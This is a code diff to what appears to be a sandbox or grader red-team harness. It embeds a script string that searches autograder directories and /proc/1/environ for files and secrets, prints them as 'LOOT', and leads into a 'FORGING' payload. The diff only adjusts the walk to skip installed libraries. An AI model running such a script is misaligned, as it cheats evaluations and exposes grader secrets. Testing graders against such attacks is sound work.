@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import os
+import sysconfig
 from pathlib import Path
 
 import jsonschema
@@ -26,6 +27,7 @@ import os, pathlib
 found = []
 for root in ("/autograder", "/opt/deepgrade", "/var", "/tmp", "/run", "/root", "."):
     for folder, names, files in os.walk(root):
+        names[:] = [name for name in names if os.path.join(folder, name) != "@LIBRARIES@"]
         for name in files:
             try:
                 text = pathlib.Path(folder, name).read_bytes()[:1_000_000]
@@ -45,7 +47,9 @@ for name in ("/autograder/submission_metadata.json", "/proc/1/environ", "/autogr
         pass
 print("LOOT: ", found) if found else print("nothing")
 counts = [10] * 10 if not found else [len(found), *found]
-"""
+""".replace(
+    "@LIBRARIES@", str(Path(sysconfig.get_path("purelib")).resolve())
+)  # the container borrows them from this machine
 
 FORGING = """
 import json, os
